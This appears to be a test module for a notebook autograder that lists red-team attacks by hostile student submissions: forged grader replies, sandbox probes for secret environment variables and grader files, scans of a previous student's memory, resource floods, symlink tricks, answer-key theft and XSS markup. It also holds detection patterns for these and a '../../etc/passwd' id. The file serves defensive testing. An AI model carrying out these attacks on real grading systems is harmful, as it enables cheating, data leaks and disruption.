"""The red-team attack bank: every attack is a hostile student in one batch (see harness.py).

Classes (the review's numbering, plus 11 for our own):
  1  the trusted verdict: forged or unreadable replies while the grader parses them
  2  one student harms the students after it (state left in the warm sandbox)
  3  the grader's own process exhausted through a trusted callback
  4  malformed input that stops the whole class
  5  symlinks, hard links and special files
  6  student HTML/JS reaching the instructor
  7  unbounded resources (outputs, disk, memory, time)
  8  the whole-network check trusts the student's forward
  9  grader-only material (or other students' work) reaching a student
  10 reports: escapes, formulas, odd student ids
  11 other tricks: framing, signals, nasty exceptions, recursion

Each Attack names its batch, its student, the honest student it must not beat (`baseline`,
in the same batch; None: the reference solution), the cells it may lose (`targets`) and
the checks only it needs. The shared checks (no gain, no harm, no leak, all recorded) are
in tests/test_redteam.py.
"""

import json
import os
import re
from dataclasses import dataclass, field

from autograder import sandbox

from . import snippets as S
from .harness import Batch, Student, bank_answer, reference_answers, rt_lines, with_code

T1, T2, T3 = "task1_forward", "task2_backward", "task3_training"
CELL_TIMEOUT = 3


def _limits(**values):
    """sandbox.Limits with these values (those the grader's Limits still has)."""
    from dataclasses import fields

    names = {f.name for f in fields(sandbox.Limits)}
    return sandbox.Limits(**{k: v for k, v in values.items() if k in names})


LIMITS = _limits(cell_timeout=CELL_TIMEOUT, notebook_timeout=60, cpu_seconds=120, memory_mb=2048,
                 output_kb=64, tmp_mb=64, scratch_mb=64, file_size_mb=16)
WRITABLE_MB = getattr(LIMITS, "scratch_mb", LIMITS.tmp_mb)  # the most one folder of the sandbox may take
# Task 3's notebook trains for a while after its answer cells: cut it short (every cell is
# scored by the trusted checks, which run whatever happened to the notebook).
LIMITS_T3 = _limits(cell_timeout=6, notebook_timeout=3, cpu_seconds=120, memory_mb=2048,
                    output_kb=64, tmp_mb=64, scratch_mb=64, file_size_mb=16)
CHECKS_BUDGET = 6.0  # seconds of trusted checks per student, where the grader lets us set it
# The solo batches' (one attacker, one victim): room for a flood that is ended on a loaded machine
# (the suite's two workers and more) before the rest of the attacker's checks, which must still run.
SOLO_CHECKS_BUDGET = 12.0
GROWTH_MB = 128  # grader-side memory an attack may make the grader hold at once


@dataclass
class Attack:
    name: str
    cls: int
    batch: str
    student: Student
    summary: str
    baseline: str = None  # student name in the same batch; None: the reference (full marks)
    targets: object = ()  # cells the attack may lose ("all": every cell)
    spill: tuple = ()  # cells that use the attacked class as well (whole-network checks)
    contained: bool = True  # every other cell keeps the reference's score
    checks: list = field(default_factory=list)  # functions(ctx) -> [problem, ...]

    @property
    def id(self):
        return f"c{self.cls}-{self.name}"


# ------------------------------------------------------------------------ checks
def printed(ctx, prefix):
    """The RT lines with `prefix` in the attacker's graded notebook (cells and verdicts)."""
    return rt_lines(ctx.texts.get(f"outputs of {ctx.assignment}.ipynb", ""), prefix)


def grader_memory_below(marker, limit_mb=GROWTH_MB):
    """While `marker` ran, the grader's own processes grew by at most `limit_mb`, and by at most
    half of what the student's code pushed at it (RTFLOOD mb=...): the grader keeps no copies."""
    def check(ctx):
        stats = ctx.monitor_stats(marker)
        if stats is None:
            return []  # the attack never ran (the grader refused earlier): nothing was spent
        seconds, growth = stats
        pushed = [int(m.group(1)) for line in printed(ctx, "RTFLOOD") for m in [re.search(r"mb=(\d+)", line)] if m]
        limit = min(limit_mb, max(32.0, 0.5 * max(pushed))) if pushed and max(pushed) > 0 else limit_mb
        if growth > limit:
            return [f"the grader's own process grew by {growth:.0f} MB in {seconds:.1f} s while this student's "
                    f"code drove it (limit {limit:.0f} MB): "
                    + "; ".join(printed(ctx, "RTFLOOD") + printed(ctx, "RTBCAST"))]
        return []
    return check


def held_below(marker, limit_seconds):
    def check(ctx):
        stats = ctx.monitor_stats(marker)
        if stats is None:
            return []
        seconds, _ = stats
        if seconds > limit_seconds:
            killed = [k for k in ctx.graded.monitor.killed if k[0] == marker]
            stuck = (f"; the grader's worker was stuck and the test's watchdog killed it {len(killed)} time(s) "
                     "(without it, the pool's per-student time-out ends it, twice)") if killed else ""
            return [f"this student's code held the grader for {seconds:.1f} s in its trusted checks "
                    f"(limit {limit_seconds:g} s){stuck}"]
        return []
    return check


def nothing_refused_printed(prefix, word="accepted"):
    def check(ctx):
        lines = [line for line in printed(ctx, prefix) if word in line]
        return [f"the grader computed on arrays that broadcast to m x m: {line.strip()}" for line in lines]
    return check


def wrote_at_most(limit_mb):
    def check(ctx):
        problems = []
        for line in printed(ctx, "RTWROTE"):
            match = re.search(r"(\S+) mb=(\d+)", line)
            if match and int(match.group(2)) > limit_mb:
                problems.append(f"wrote {match.group(2)} MB into {match.group(1)} (more than {limit_mb} MB)")
        return problems
    return check


def outputs_bounded(ctx):
    """No cell of the graded notebook holds much more than the output limit."""
    result = ctx.result
    if result is None:
        return []
    limit = LIMITS.output_kb * 1024
    sizes = []
    for notebook in result.notebooks.values():
        for cell in notebook.cells:
            if cell.cell_type == "code":
                sizes.append(len(json.dumps(cell.get("outputs", []))))
    big = [s for s in sizes if s > 4 * limit]
    if big or sum(sizes) > limit * len(sizes):
        return [f"{len(big)} cells keep more than 4 x {LIMITS.output_kb} KB of output (largest "
                f"{max(sizes) // 1024} KB, all cells {sum(sizes) // 2**20} MB): outputs are not bounded"]
    return []


def heap_is_clean(ctx):
    counts = [int(m.group(1)) for line in printed(ctx, "RTHEAP") for m in [re.search(r"count=(\d+)", line)] if m]
    if any(counts):
        contexts = [line for line in printed(ctx, "RTHEAP context:")][:2]
        return [f"found the previous student's secret {max(counts)} times in its own memory (inherited "
                f"from the warm sandbox's zygote): {contexts}"]
    return []


_FORBIDDEN_FILES = re.compile(r"\.ipynb$|hidden|gradebook|/source/|specs|submitted|autograded|\.db$")
_SECRET_ENV = re.compile(r"TOKEN|SECRET|PASSW|AWS|GITHUB|API_KEY|CREDENTIAL", re.I)


def sandbox_sees_nothing(ctx):
    lines = printed(ctx, "RTPROBE")
    if not lines:
        return []
    seen = json.loads(lines[0])
    problems = []
    bad = [f for f in seen["files"] if _FORBIDDEN_FILES.search(f)]
    if bad:
        problems.append(f"the sandbox sees grader files: {bad[:5]}")
    secrets = [k for k in seen["environ"] if _SECRET_ENV.search(k)]
    if secrets:
        problems.append(f"the sandbox's environment has secret-looking variables: {secrets}")
    mounts = [m for m in seen.get("mounts", []) if isinstance(m, str) and re.search(r"/source|submitted|gradebook", m)]
    if mounts:
        problems.append(f"the sandbox's mount table shows grader paths: {mounts[:3]}")
    for what in ("parent_mem", "parent_environ"):
        if not str(seen.get(what, "")).startswith("denied"):
            problems.append(f"{what} is readable from the sandbox")
    if seen.get("ptrace_attach_parent") == 0:
        problems.append("the sandboxed process could ptrace its parent (the zygote)")
    return problems


def refused_hidden_helpers(ctx):
    lines = printed(ctx, "RTLEAK")
    return [f"the trusted check's process could import the grader-only module: {line[:200]}"
            for line in lines if line.startswith(" imported")]


# Live markup: the marker where a browser would run it (not where it is shown as text).
_LIVE = [r"<script\b[^>]*>[^<]*{m}", r"<[a-zA-Z][^<>]*\son\w+\s*=\s*[\"']?[^<>]*{m}",
         r"=\s*[\"']?\s*javascript:[^<>]*{m}", r"<meta\b[^<>]*http-equiv[^<>]*{m}", r"<iframe\b[^<>]*{m}",
         r"<object\b[^<>]*{m}", r"<embed\b[^<>]*{m}", r"<img\b[^<>]*src\s*=\s*[\"']?https?://[^<>]*{m}",
         r"<form\b[^<>]*{m}", r"<style\b[^>]*>[^<]*{m}", r"href\s*=\s*[\"']?\s*data:text/html[^<>]*>[^<]*{m}"]
_MARKDOWN_LINK = r"\]\(\s*<?\s*(javascript|data):[^)]*\)\s*{m}|\]\(\s*<?\s*javascript:[^)]*{m}|!\[[^]]*\]\(\s*https?://[^)]*{m}"


def live_markup(text, marker, markdown=False):
    """The first place `marker` is live in `text` (HTML; or markdown source, code spans excepted)."""
    mark = re.escape(marker) + r"\b"
    if markdown:
        text = re.sub(r"```.*?```|~~~.*?~~~|`[^`]*`", "", text, flags=re.S)  # code is shown, not run
    for pattern in _LIVE + ([_MARKDOWN_LINK] if markdown else []):
        match = re.search(pattern.format(m=mark), text, re.I | re.S)
        if match:
            return match.group(0)[:160]
    return None


def no_live_markup(marker):
    """The marker is never live in the instructor's HTML feedback, nor in the graded notebook that
    formgrader renders (its markdown and raw cells, its outputs, its metadata)."""
    def check(ctx):
        problems = []
        html = ctx.texts.get("feedback .html")
        if html is not None:
            hit = live_markup(html, marker)
            if hit:
                problems.append(f"the HTML feedback runs the student's markup: {hit!r}")
        notebook = ctx.autograded_notebook()
        if notebook is None:
            return problems
        for cell in notebook.get("cells", []):
            source = cell.get("source", "")
            source = source if isinstance(source, str) else "".join(source)
            if cell.get("cell_type") in ("markdown", "raw"):
                hit = live_markup(source, marker, markdown=cell.get("cell_type") == "markdown")
                if hit:
                    problems.append(f"the graded notebook keeps a {cell['cell_type']} cell with live markup: {hit!r}")
            for output in cell.get("outputs", []):
                for mime, value in dict(output.get("data", {})).items():
                    text = value if isinstance(value, str) else "".join(value) if isinstance(value, list) else ""
                    if marker not in text or mime == "text/plain":
                        continue
                    hit = live_markup(text, marker, markdown=mime == "text/markdown")
                    if mime == "application/javascript" or hit:
                        problems.append(f"the graded notebook keeps a {mime} output with live markup: "
                                        f"{(hit or text)[:120]!r}")
        hit = live_markup(json.dumps(notebook.get("metadata", {})).replace("\\/", "/"), marker)
        if hit:
            problems.append(f"the graded notebook's metadata holds live markup: {hit!r}")
        return problems
    return check


_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x9b]")


def reports_have_no_control_characters(ctx):
    problems = []
    for name in ("grades.csv", "items.csv", "flags.csv"):
        path = ctx.graded.out / name
        if path.exists():
            text = path.read_text(encoding="utf-8", errors="replace").replace("\r\n", "\n")
            found = _CONTROL.findall(text)
            if found:
                problems.append(f"{name} holds control characters {sorted(set(found))!r} (terminal escapes)")
    text = ctx.texts.get("feedback .txt", "")
    if _CONTROL.search(text):
        problems.append("the text feedback holds terminal escape sequences")
    try:
        from autograder.reports import format_table

        table = format_table(ctx.assignment, list(ctx.graded.results.values()))
        if _CONTROL.search(table):
            problems.append("the score table `grade` prints to the terminal holds terminal escape sequences")
    except Exception as error:  # noqa: BLE001
        problems.append(f"the score table could not be made ({type(error).__name__}: {error})")
    return problems


def _formula(cell):
    return bool(cell) and (cell[0] in "=+@\t\r" or (cell[0] == "-" and not re.match(r"-\d", cell)))


def reports_have_no_formulas(ctx):
    problems = []
    for name in ("grades.csv", "items.csv", "flags.csv"):
        rows = ctx.csv(name) or []
        mine = [row for row in rows[1:] if row and same_id(row[0], ctx.folder)]
        cells = [cell for row in mine for cell in row if _formula(cell)]
        if cells:
            problems.append(f"{name} has cells a spreadsheet runs as formulas: {cells[:3]!r}")
    return problems


def no_fake_report_lines(ctx):
    problems = []
    rows = [row for row in (ctx.csv("items.csv") or []) if row and same_id(row[0], ctx.folder)]
    if any("RTFAKE" in cell for row in rows for cell in row):
        problems.append("lines the student printed during a check reached items.csv as the grader's reasons")
    if "RTFAKE" in ctx.texts.get("feedback .txt", ""):
        problems.append("lines the student printed during a check reached the text feedback as reasons")
    return problems


def own_html_feedback(tag, others):
    def check(ctx):
        html = ctx.texts.get("feedback .html")
        if html is None and ctx.result is not None and not ctx.result.notebooks:
            return []  # refused (with a row and a reason): nothing to render
        if html is None:
            return ["no HTML feedback was written for this student"]
        problems = []
        if f"RTID-{tag}" not in html:
            problems.append("its HTML feedback is not its own notebook")
        stolen = [o for o in others if o != tag and f"RTID-{o}" in html]
        if stolen:
            problems.append(f"its HTML feedback shows other students' work ({stolen})")
        return problems
    return check


def same_id(row_id, folder):
    """A grades.csv id is this folder's, allowing a leading ' (a formula escaped) and control
    characters replaced by spaces or dropped."""
    from autograder.reports import student_text

    def plain(text):
        return re.sub(r"[\x00-\x1f\x7f]", " ", str(text).lstrip("'")).strip()
    dropped = re.sub(r"[\x00-\x1f\x7f]", "", folder)
    return row_id in (folder, student_text(folder)) or plain(row_id) in (plain(folder), dropped)


def grades_row_exact(ctx):
    rows = ctx.csv("grades.csv") or []
    ids = [row[0] for row in rows[1:]]
    if not any(same_id(i, ctx.folder) for i in ids):
        return [f"grades.csv has no row for {ctx.folder!r} (ids: {ids[:6]}...)"]
    return []


# ------------------------------------------------------------------------ students
def ref_plus(assignment, grade_id, code):
    return {grade_id: with_code(assignment, grade_id, code)}


def reference(name="reference", assignment=T1, listing_cell=None):
    cell = listing_cell or {T1: "linear", T2: "linear", T3: "sgd"}[assignment]
    return Student(name, role="reference", answers=ref_plus(assignment, cell, S.ENV_LISTING))


WRONG_T1_LINEAR = bank_answer(T1, "linear_W_transposed", "linear")
WRONG_T2_LINEAR = bank_answer(T2, "linear_dW_summed", "linear")
T1_SPILL = ("test_model_network",)
T2_SPILL = ("test_model_network", "test_model_main", "test_find_bug")  # the hunt runs the student's classes


def forged(name, reply, summary):
    code = WRONG_T1_LINEAR + "\n" + S.PATCH_NOTEBOOK_SCORES + S.forge_in("Linear", "forward", reply)
    return Attack(name, 1, "t1", Student(name, answers={"linear": code}), summary, baseline="b_wrong_linear",
                  targets=("test_linear",), spill=T1_SPILL)


ATTACKS = []
BATCH_STUDENTS = {}


def add(attack):
    ATTACKS.append(attack)
    return attack


# ===================================================================== batch t1 (Task 1)
# Attacks that may harm the students after them are each followed by an honest reference.
t1 = [reference("a_reference"), Student("b_wrong_linear", role="baseline", answers={"linear": WRONG_T1_LINEAR})]


def _t1(*attacks, then_reference=None):
    for attack in attacks:
        t1.append(attack.student)
        add(attack)
    if then_reference:
        t1.append(reference(then_reference))


_t1(forged("forged_nested_reply", S.NESTED_REPLY,
           "Linear.forward answers the grader with a 200000-deep JSON list (RecursionError while parsing)"),
    forged("forged_inf_shape", S.INF_SHAPE_REPLY,
           "Linear.forward answers with an array whose shape is [Infinity, 3] (OverflowError in int())"),
    forged("forged_huge_shape", S.HUGE_SHAPE_REPLY,
           "Linear.forward answers with shape [2**32, 2**32] and no data (the element count overflows to 0)"),
    Attack("exception_str_raises", 11, "t1", Student("exception_str_raises", answers={
        "linear": WRONG_T1_LINEAR + "\n" + S.STR_RAISES}),
        "Linear.forward raises an exception whose __str__ and __repr__ raise again", baseline="b_wrong_linear",
        targets=("test_linear",), spill=T1_SPILL),
    Attack("hidden_tests_capture", 9, "t1", Student("hidden_capture", answers={
        "linear": with_code(T1, "linear", S.HIDDEN_CAPTURE_HOOK),
        "relu": with_code(T1, "relu", S.HIDDEN_CAPTURE_PRINT),
        "model": with_code(T1, "model", S.HIDDEN_CAPTURE_PRINT)}),
        "an audit hook records the source of every cell compiled in the student's process (test cells "
        "included) and later cells print it"),
    Attack("sandbox_probe", 9, "t1", Student("sandbox_probe", answers=ref_plus(T1, "mse_loss", S.SANDBOX_PROBE)),
           "lists every file outside the environment, the environment variables, the mounts, and tries the "
           "zygote's memory and ptrace", checks=[sandbox_sees_nothing]),
    Attack("zygote_framing_mimic", 11, "t1", Student("framing_mimic", answers=ref_plus(T1, "relu", S.FRAMING_MIMIC)),
           "writes the zygote's own `Z...` control lines on its reply pipe and on fds 1 and 2"),
    Attack("patched_runner_json", 11, "t1", Student("patched_json", answers={
        "linear": WRONG_T1_LINEAR + "\n" + S.PATCHED_RUNNER_JSON}),
        "Linear.forward replaces json.dumps in its process: every later reply is a 100000-deep list",
        baseline="b_wrong_linear", targets=("test_linear",), spill=T1_SPILL),
    Attack("ndarray_subclass_lies", 11, "t1", Student("ndarray_liar", answers={
        "linear": WRONG_T1_LINEAR + "\n" + S.NDARRAY_LIAR}),
        "a wrong Linear.forward returns an ndarray subclass that equals everything and converts to zeros",
        baseline="b_wrong_linear", targets=("test_linear",), spill=T1_SPILL),
    then_reference="r1_reference")
_t1(Attack("recorder_flood", 3, "t1", Student("recorder_flood", answers=ref_plus(T1, "model", S.RECORDER_FLOOD)),
           "Model.forward calls the grader's recorder modules again and again with 512 KB arrays for 2.4 s "
           "(each recorder keeps a copy of every input)", targets=("test_model",),
           checks=[grader_memory_below("rt-c3rec")]))
_t1(Attack("slow_trusted_calls", 7, "t1", Student("slow_trusted_calls", answers=ref_plus(T1, "linear", S.SLOW_CALLS)),
           "every Linear.forward the grader calls takes 2.5 s, just under the 3 s per-call limit",
           targets=("test_linear",), spill=T1_SPILL, contained=False,  # the checks budget then stops the rest
           checks=[held_below("rt-c7slow", CHECKS_BUDGET + 2 * CELL_TIMEOUT)]))
_t1(Attack("huge_outputs", 7, "t1", Student("huge_outputs", answers=ref_plus(T1, "relu", S.HUGE_OUTPUTS)),
           "an IPython post_execute hook displays 1 MB after every cell, and a cell's value is 2.4 MB",
           checks=[outputs_bounded]),
    Attack("fill_scratch_folder", 7, "t1", Student("fill_scratch", answers=ref_plus(
        T1, "tanh", S.fill("/submission", 192))),
        "writes 192 MB into the scratch folder (the grader's disk), in 16 MB files",
        checks=[wrote_at_most(WRITABLE_MB)]), then_reference="r2_reference")
t1.append(Student("heap_donor", role="honest", answers={
    gid: src + f"\n# {S.DONOR_SECRET}\n_rt_donor = '{S.DONOR_SECRET}'" for gid, src in reference_answers(T1).items()}))
_t1(Attack("heap_of_previous_student", 9, "t1", Student("heap_reader", answers=ref_plus(T1, "linear", S.HEAP_READER)),
           "scans its own memory (a fork of the warm zygote) for the previous student's code",
           checks=[heap_is_clean]),
    Attack("recursion_bomb", 11, "t1", Student("recursion_bomb", answers=ref_plus(T1, "sigmoid", S.RECURSION_BOMB)),
           "Sigmoid.forward (as the grader calls it) recurses without end after raising the recursion limit to 10**6",
           targets=("test_sigmoid",), spill=T1_SPILL),
    Attack("slow_notebook_voids_checks", 7, "t1", Student("slow_notebook", answers={
        gid: with_code(T1, gid, S.SLOW_CELL) for gid in ("tanh", "relu", "mse_loss")}),
        "the reference solution, but three answer cells take 2.4 s each in the notebook run (under the "
        "3 s cell limit; 7.2 s in all, more than the 6 s checks budget)"),
    Attack("kill_zygote", 11, "t1", Student("kill_zygote", answers=ref_plus(T1, "tanh", S.KILL_ZYGOTE)),
           "a cell SIGKILLs the warm sandbox's zygote"), then_reference="zz_reference")
BATCH_STUDENTS["t1"] = t1


# ===================================================================== batch t2 (Task 2)
T2_CLASSMATE = "s00_a_reference"  # the folder of batch t2's first student
T2_CHOSEN_ID = "rt_chosen"  # an id whose draw an attacker prefers (its answers differ from theirs)


def _student_id_cell(source):
    """Replace the source of Task 2's student-id cell (a plain code cell: the student's to edit)."""
    def mutate(notebook):
        cells = [c for c in notebook.cells if c.get("id") == "find_bug_student"]
        assert len(cells) == 1, "Task 2's student-id cell (id find_bug_student) is gone"
        cells[0].source = source
        return notebook
    return mutate


def _recorded_as(variable, find_bug):
    """The find_bug answer `find_bug` with its answer recorded under the id in `variable`."""
    line = "suspects = record_suspects(my_suspects, STUDENT_ID)"
    assert line in find_bug, "the find_bug answer no longer records with this line"
    return find_bug.replace(line, f"suspects = record_suspects(my_suspects, {variable})")


t2 = [reference("a_reference", T2), Student("b_wrong_linear", role="baseline", answers={"linear": WRONG_T2_LINEAR}),
      Student("b_wrong_suspects", role="baseline",
              answers={"find_bug": 'suspects = {"A": "Dense_1.W", "B": "Dense_1.b"}'}),
      Student("b_wrong_main", role="baseline", answers={"main": bank_answer(T2, "main_two_hidden_layers", "main")})]
for attack in [
    Attack("forged_finite_differences", 8, "t2", Student("forged_fd", answers={
        "linear": S.FORGE_FD_LINEAR,
        "mse_loss": with_code(T2, "mse_loss", S.forge_fd_loss("MSELoss")),
        "bce_loss": with_code(T2, "bce_loss", S.forge_fd_loss("BCELoss"))}),
        "a wrong Linear.backward (dW, db summed) whose objects recognise a weight perturbed by one entry and "
        "make the loss report what the wrong gradient predicts", baseline="b_wrong_linear",
        targets=("test_linear",) + T2_SPILL),
    Attack("forged_reply_in_notebook_objects", 1, "t2", Student("forged_main", answers={
        "main": bank_answer(T2, "main_two_hidden_layers", "main") + "\n" + S.PATCH_NOTEBOOK_SCORES + S.HELPERS
        + "\n_rt_main_forward = mlp.forward\n"
        "def _rt_forged_main_forward(*args):\n"
        "    if _rt_objects_mode():\n"
        f"        _rt_forge({S.NESTED_REPLY})\n"
        "    return _rt_main_forward(*args)\n"
        "mlp.forward = _rt_forged_main_forward\n"}),
        "the notebook's own mlp (checked after the run, through the notebook's objects) answers with a "
        "200000-deep reply", baseline="b_wrong_main", targets=("test_model_main",)),
    Attack("planted_key_in_released_module", 9, "t2", Student("planted_key", answers={
        "find_bug": S.PLANTED_KEY_FROM_MODULE}),
        "the planted-bug hunt answered from the released task2_checks.py (its _PLANTED answer key)",
        baseline="b_wrong_suspects", targets=("test_find_bug",)),
    Attack("planted_key_by_introspection", 9, "t2", Student("planted_introspection", answers={
        "find_bug": S.PLANTED_KEY_BY_INTROSPECTION}),
        "the planted-bug hunt answered by reading the spoiled shape, gradient and factor out of the closure of "
        "the mystery networks' Linear subclass (no gradient check run), recorded under the student's own id",
        baseline="b_wrong_suspects", targets=("test_find_bug",)),
    Attack("planted_key_from_the_draw", 9, "t2", Student("planted_draw", answers={
        "find_bug": S.PLANTED_KEY_FROM_THE_DRAW}),
        "the planted-bug hunt answered from the student's id with the released checks' own draw "
        "(task2_checks.mystery_plan), no network looked at", baseline="b_wrong_suspects", targets=("test_find_bug",)),
    Attack("draw_for_a_classmate", 9, "t2", Student("draw_classmate", mutate=_student_id_cell(
        S.DRAW_FOR_A_CLASSMATE.format(classmate=T2_CLASSMATE))),
        "the student-id cell names a classmate (whose answers are known, or easier): the honest hunt of the "
        "classmate's networks, recorded under the classmate's id", baseline="b_wrong_suspects",
        targets=("test_find_bug",)),
    Attack("draw_of_choice_recorded_as_own", 9, "t2", Student("draw_of_choice", mutate=_student_id_cell(
        S.DRAW_OF_CHOICE.format(chosen=T2_CHOSEN_ID)), answers={"find_bug": _recorded_as(
            "_RT_OWN_ID", reference_answers(T2)["find_bug"])}),
        "os.environ['COURSE_STUDENT_ID'] (set by the grader) overwritten with an id of the student's choice, "
        "so that the networks are drawn for it; the honest hunt of those, recorded under the student's own id",
        baseline="b_wrong_suspects", targets=("test_find_bug",)),
]:
    t2.append(attack.student)
    add(attack)
t2.append(reference("zz_reference", T2))
BATCH_STUDENTS["t2"] = t2


# ===================================================================== batch t3 (Task 3)
t3 = [reference("a_reference", T3)]
_train_abuse = Student("train_abuse", answers={**ref_plus(T3, "train", S.TRAIN_ABUSE),
                                               "minibatches": S.ENDLESS_GENERATOR, "accuracy": S.LYING_ACCURACY})
for attack in [
    Attack("hidden_reference_helpers", 9, "t3", _train_abuse,
           "during the trusted train check, looks for the grader-only task3_hidden module and the source of "
           "the reference minibatches it is handed", checks=[refused_hidden_helpers],
           targets=("test_minibatches", "test_accuracy", "test_train")),
    Attack("logged_model_flood", 3, "t3", _train_abuse,
           "train calls the grader's logged model with 512 KB arrays again and again for 2.4 s (it logs a copy of "
           "every input and output)", checks=[grader_memory_below("rt-c3log")],
           targets=("test_minibatches", "test_accuracy", "test_train")),
    Attack("broadcast_in_grader", 3, "t3", _train_abuse,
           "train calls the grader's loss and the reference accuracy with (m,1,1) against (1,m,1), m = 6000",
           checks=[grader_memory_below("rt-c3bcast"), nothing_refused_printed("RTBCAST")],
           targets=("test_minibatches", "test_accuracy", "test_train")),
    Attack("rigged_long_run", 8, "t3", Student("rigged_long_run", answers=ref_plus(T3, "train", S.RIGGED_LONG_RUN)),
           "an honest loop in the short runs; in the long learning run (the network and the reference helpers "
           "are the sandbox's own) no training, the reference accuracy and minibatches, the network's forward "
           "and the history rigged to say perfect", targets=("test_train",),
           # every part of the short runs (5 of the 6 weights), never the learning one
           checks=[lambda ctx: [f"the rigged long run scored {i.score:g}/{i.max_score:g} in test_train, not 5/6 "
                                f"of it: {i.reason}" for i in ctx.result.items if i.cell_id == "test_train"
                                and abs(i.score - i.max_score * 5 / 6) > 0.011]]),
    Attack("endless_generator", 7, "t3", _odd := _train_abuse,
        "minibatches is a generator that never stops", targets=("test_minibatches", "test_accuracy", "test_train")),
    Attack("lying_number", 11, "t3", _odd, "accuracy returns an object whose float() is 1.0 and that equals "
           "everything (not a number)", baseline=None, targets=("test_minibatches", "test_accuracy", "test_train"),
           checks=[lambda ctx: [f"accuracy's liar object earned {i.score:g}/{i.max_score:g}" for i in ctx.result.items
                                if i.cell_id == "test_accuracy" and i.score > 0.5 * i.max_score + 1e-9]]),
]:
    if attack.student not in t3:
        t3.append(attack.student)
    add(attack)
t3.append(reference("zz_reference", T3))
BATCH_STUDENTS["t3"] = t3


# ================================================================== batch intake (screening)
def _cell(notebook, grade_id):
    return next(c for c in notebook.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


def meta(change):
    def mutate(notebook):
        change(notebook)
        return notebook
    return mutate


def _weird_ids(nb):
    for i, cell in enumerate(nb.cells[:6]):
        cell["id"] = [5, "", "x" * 200, "../../etc/passwd", nb.cells[0].get("id"), "a b"][i]


def _retype_and_move(nb):
    test = _cell(nb, "test_linear")
    nb.cells.remove(test)
    test["cell_type"] = "markdown"
    test.pop("outputs", None)
    test.pop("execution_count", None)
    test["source"] = "RT retyped test cell"
    nb.cells.insert(0, test)
    fake = json.loads(json.dumps(_cell(nb, "linear")))
    fake["metadata"]["nbgrader"].update({"grade": True, "points": 100, "grade_id": "linear"})
    fake["id"] = "rtfakecell"
    nb.cells.append(fake)


INTAKE_META = {
    "nbgrader_is_a_string": lambda nb: _cell(nb, "linear")["metadata"].__setitem__("nbgrader", "x"),
    "grade_id_is_a_list": lambda nb: _cell(nb, "linear")["metadata"]["nbgrader"].__setitem__("grade_id", ["linear"]),
    "nbgrader_is_null": lambda nb: _cell(nb, "sigmoid")["metadata"].__setitem__("nbgrader", None),
    "nbgrader_fields_of_wrong_types": lambda nb: _cell(nb, "linear")["metadata"]["nbgrader"].update(
        {"solution": "yes", "points": "lots", "locked": [1], "grade": {"x": 1}}),
    "metadata_of_wrong_types": lambda nb: (nb.__setitem__("metadata", {"kernelspec": "python3", "language_info": [1],
                                                                       "widgets": 5}),
                                           nb.cells[1].__setitem__("metadata", [])),
    "weird_cell_types": lambda nb: nb.cells.extend([{"cell_type": "heading", "level": 1, "source": "x", "metadata": {}},
                                                    {"cell_type": 5, "source": "y", "metadata": {}}]),
    "weird_cell_ids": _weird_ids,
    "sources_of_wrong_types": lambda nb: (nb.cells[0].__setitem__("source", {"a": 1}),
                                          nb.cells[2].__setitem__("source", 42)),
    "test_cell_retyped_moved_and_faked": _retype_and_move,
}


def _write_json(text):
    def write(student_folder, assignment, notebook, submitted):
        folder = student_folder / assignment
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{assignment}.ipynb").write_text(text(notebook))
    return write


def _deep_json(notebook):
    text = json.dumps(notebook)
    return text[:-1] + ', "rt": ' + "[" * 100000 + "]" * 100000 + "}"


def _link_to(target):
    """A writer that makes `<assignment>.ipynb` (or the folder) a link to something else."""
    def write(student_folder, assignment, notebook, submitted):
        from autograder import course

        folder = student_folder / assignment
        notebook_file = folder / f"{assignment}.ipynb"
        other = submitted / "s00_a_reference"
        if target == "student folder":
            student_folder.symlink_to(other)
            return
        if target == "assignment folder":
            student_folder.mkdir(parents=True)
            folder.symlink_to(other / assignment)
            return
        folder.mkdir(parents=True)
        if target == "source notebook":
            notebook_file.symlink_to(course.notebook_path(assignment))
        elif target == "other student's notebook":
            notebook_file.symlink_to(other / assignment / f"{assignment}.ipynb")
        elif target == "hard link to the source notebook":
            try:
                os.link(course.notebook_path(assignment), notebook_file)
            except OSError:  # another file system: link the reference student's instead
                os.link(other / assignment / f"{assignment}.ipynb", notebook_file)
        elif target == "fifo":
            os.mkfifo(notebook_file)
        elif target == "directory":
            notebook_file.mkdir()
        elif target == "character device":
            os.mknod(notebook_file, 0o600 | 0o020000, os.makedev(1, 5))  # like /dev/zero
        elif target == "/dev/zero":
            notebook_file.symlink_to("/dev/zero")
        elif target == "sparse 8 GB file":
            with open(notebook_file, "wb") as handle:
                handle.truncate(8 * 2**30)
    return write


INTAKE_LINKS = {
    "notebook_symlink_to_source": "source notebook",
    "notebook_symlink_to_other_student": "other student's notebook",
    "assignment_folder_symlink_to_other_student": "assignment folder",
    "student_folder_symlink_to_other_student": "student folder",
    "notebook_hardlink_to_source": "hard link to the source notebook",
    "notebook_is_a_fifo": "fifo",
    "notebook_is_a_directory": "directory",
    "notebook_is_a_character_device": "character device",
    "notebook_symlink_to_dev_zero": "/dev/zero",
    "notebook_is_a_sparse_8gb_file": "sparse 8 GB file",
}

intake = [reference("a_reference"), Student("b_untouched", role="untouched", untouched=True)]
for name, change in INTAKE_META.items():
    attack = add(Attack(name, 4, "intake", Student(name, mutate=meta(change)),
                        f"a notebook with {name.replace('_', ' ')} (the rest is the reference solution)",
                        contained=False))
    intake.append(attack.student)
def _as_v3(notebook):
    import nbformat

    return json.dumps(nbformat.convert(notebook, 3))


attack = add(Attack("notebook_in_format_v3", 4, "intake", Student("format_v3", write=_write_json(_as_v3)),
                    "the reference solution saved as an nbformat 3 notebook (worksheets)", contained=False))
intake.append(attack.student)
attack = add(Attack("json_nested_100000_deep", 4, "intake", Student("json_deep", write=_write_json(_deep_json)),
                    "the notebook file is valid JSON nested 100000 deep", contained=False))
intake.append(attack.student)
for name, target in INTAKE_LINKS.items():
    attack = add(Attack(name, 5, "intake", Student(name, write=_link_to(target)),
                        f"the submission is a {target} link/special file", baseline="b_untouched", targets="all"))
    intake.append(attack.student)
intake.append(reference("zz_reference"))
BATCH_STUDENTS["intake"] = intake


# ================================================================== batch reports (HTML on)
def _add_cells(*cells):
    def mutate(notebook):
        import nbformat

        for kind, source, extra in cells:
            maker = {"markdown": nbformat.v4.new_markdown_cell, "raw": nbformat.v4.new_raw_cell}[kind]
            cell = maker(source)
            for key, value in extra.items():
                cell[key] = value
            notebook.cells.insert(3, cell)
        return notebook
    return mutate

